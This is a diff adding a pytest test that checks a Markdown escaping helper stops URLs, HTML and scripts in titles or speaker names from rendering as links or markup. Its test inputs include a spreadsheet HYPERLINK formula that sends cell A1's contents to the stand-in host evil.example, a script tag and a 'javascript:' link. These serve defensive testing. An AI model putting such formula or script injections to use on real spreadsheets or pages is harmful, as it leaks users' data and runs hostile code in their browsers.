@@ -29,6 +29,28 @@ def test_markdown_escaping_never_shows_entities_or_backslashes():
     assert display.esc("a\nb | c") == "a b \\| c"  # a newline cannot end a Markdown table row
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script>',
+        "<http://evil.example> and mailto:a@b.example",
+        "Mary <b>O'Brien</b> | *Boss* $x^2$ [l](javascript:alert(3)) https://x.example/a_b_c",
+    ],
+)
+def test_markdown_escaping_makes_no_link_and_shows_the_text_as_written(text):
+    """A URL in a title or speaker name is text: the renderer's autolinking must not
+    turn it into a link (which also swallowed the escaping backslash into the URL)."""
+    import html
+
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+    for template in ("{}", "**{}** — sanction"):
+        rendered = markdown2html_mistune(template.format(display.esc(text)))
+        assert "<a " not in rendered and "<script" not in rendered and "<b>" not in rendered
+        visible = html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()
+        assert visible == template.replace("**", "").format(text)
+
+
 def test_html_escaping_is_applied_once_with_paragraph_breaks():
     assert display.html_text("woman's <b>") == "woman&#x27;s &lt;b&gt;"
     assert display.html_text("First.\n\nSecond.\nThird.") == "First.<br><br>Second.<br>Third."
